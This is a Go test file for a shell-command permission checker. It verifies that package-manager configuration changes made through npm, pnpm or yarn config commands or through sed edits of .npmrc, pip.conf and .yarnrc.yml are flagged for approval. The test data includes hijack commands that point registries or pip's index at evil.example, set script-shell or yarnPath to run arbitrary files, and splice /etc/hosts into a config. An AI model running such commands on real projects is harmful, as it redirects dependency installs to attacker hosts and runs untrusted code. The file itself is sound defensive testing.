package rewrite

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"
)

// TestToolConfigAgreesWithFile: npm/pnpm/yarn config set KEY VALUE and
// the same line written into the file the setting is kept in reach the
// same verdict (ask or not): the default registry and ignore-scripts
// true pass both ways (npm config set registry https://registry.npmjs.org/
// asked while the .npmrc line passed).
func TestToolConfigAgreesWithFile(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{"proj/README": "x\n"})
	for _, tc := range []struct{ set, file string }{
		{"npm config set registry https://registry.npmjs.org/", "echo 'registry=https://registry.npmjs.org/' > .npmrc"},
		{"npm config set registry https://registry.yarnpkg.com", "echo 'registry=https://registry.yarnpkg.com' > .npmrc"},
		{"npm config set registry https://evil.example/", "echo 'registry=https://evil.example/' > .npmrc"},
		{"npm config set registry http://registry.npmjs.org/", "echo 'registry=http://registry.npmjs.org/' > .npmrc"},
		{"npm set @acme:registry https://registry.npmjs.org/", "echo '@acme:registry=https://registry.npmjs.org/' > .npmrc"},
		{"npm config set registry=https://registry.npmjs.org/", "echo 'registry=https://registry.npmjs.org/' > .npmrc"},
		{"pnpm config set ignore-scripts true", "echo 'ignore-scripts=true' > .npmrc"},
		{"pnpm config set ignore-scripts false", "echo 'ignore-scripts=false' > .npmrc"},
		{"npm config set script-shell /bin/bash", "echo 'script-shell=/bin/bash' > .npmrc"},
		{"yarn config set registry https://registry.yarnpkg.com", "echo 'registry \"https://registry.yarnpkg.com\"' > .yarnrc"},
		{"yarn config set npmRegistryServer https://registry.yarnpkg.com", "echo 'npmRegistryServer: \"https://registry.yarnpkg.com\"' > .yarnrc.yml"},
		{"yarn config set npmRegistryServer https://evil.example", "echo 'npmRegistryServer: \"https://evil.example\"' > .yarnrc.yml"},
		{"yarn config set yarnPath .yarn/x.cjs", "echo 'yarnPath: .yarn/x.cjs' > .yarnrc.yml"},
	} {
		a, b := Check(cfg, tc.set).Decision, Check(cfg, tc.file).Decision
		if (a == Ask) != (b == Ask) {
			t.Errorf("%s: %s, but %s: %s", tc.set, a, tc.file, b)
		}
	}
	testRule(t, "tool-config", []ruleCase{
		{"npm config set registry https://registry.npmjs.org/", Allow},
		{"npm --location=project config set registry https://registry.npmjs.org/", Allow},
		{"npm config set registry=https://registry.npmjs.org/ script-shell=./x.sh", Ask},
		{"npm --userconfig x.rc config set registry https://evil.example/", Ask},
		{"npm -g c set registry https://evil.example/", Ask},
		{"npm config set registry \"$R\"", Ask},
		{"npm config set registry", Ask},
		{"yarn config set yarnPath .yarn/releases/x.cjs", Ask},
	})
}

// TestIndexConfigSedEdits: sed -i of a package manager's configuration
// is judged by the settings its edit adds, as the real GNU sed
// (--sandbox) makes them from the file's text; a script corral cannot
// run that way asks for such a file. npm --userconfig F and
// NPM_CONFIG_USERCONFIG=F read F as the user's .npmrc; .yarnrc.yml's
// yarnPath names the file every yarn command runs.
func TestIndexConfigSedEdits(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("sed"); err != nil {
		t.Skip("no sed")
	}
	cfg := scratchProject(t, map[string]string{
		"proj/.npmrc":            "registry=https://registry.npmjs.org/\nfund=false\n",
		"proj/sub/pip.conf":      "[global]\ntimeout = 60\n",
		"proj/web/.yarnrc.yml":   "nodeLinker: node-modules\n",
		"proj/evil.rc":           "registry=https://evil.example/\n",
		"proj/good.rc":           "fund=false\n",
		"proj/notes.md":          "registry=https://evil.example/\n",
		"home/.config/pip/x.txt": "",
	})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"sed -i 's|registry=.*|registry=https://evil.example/|' .npmrc", "ask"},
		{"sed -i 's/registry.npmjs.org/evil.example/' .npmrc", "ask"},
		{"sed -i.bak -e '$a registry=https://evil.example/' .npmrc", "ask"},
		{"sed -Ei 's/(timeout = )60/\\1 30\\nindex-url = https:\\/\\/evil.example\\/simple/' sub/pip.conf", "ask"},
		{"sed -i '1i yarnPath: .yarn/x.cjs' web/.yarnrc.yml", "ask"},
		{"sed -i -f edit.sed .npmrc", "ask"},
		{"sed -i \"s/x/$Y/\" .npmrc", "ask"},
		{"sed -i '1r /etc/hosts' .npmrc", "ask"},
		{"NPM_CONFIG_USERCONFIG=evil.rc npm install", "ask"},
		{"npm --userconfig evil.rc ci", "ask"},
		{"echo 'yarnPath: .yarn/x.cjs' >> web/.yarnrc.yml", "ask"},
		// Look-alikes.
		{"sed -i 's/^fund=.*/fund=true/' .npmrc", "allow"},
		{"sed -i 's/60/30/' sub/pip.conf", "allow"},
		{"sed -in 's/node-modules/pnp/p' web/.yarnrc.yml", "allow"},
		{"sed -i 's|registry=.*|registry=https://registry.npmjs.org/|' .npmrc", "allow"},
		{"sed -i 's/x/y/' notes.md", "allow"},
		{"npm --userconfig good.rc install", "allow"},
		{"npm --userconfig evil.rc config set fund false", "allow"},
	})
	// The sed run at hook time changed nothing on disk.
	b, err := os.ReadFile(filepath.Join(cfg.Project, ".npmrc"))
	if err != nil || string(b) != "registry=https://registry.npmjs.org/\nfund=false\n" {
		t.Errorf(".npmrc is now %q (%v)", b, err)
	}
}
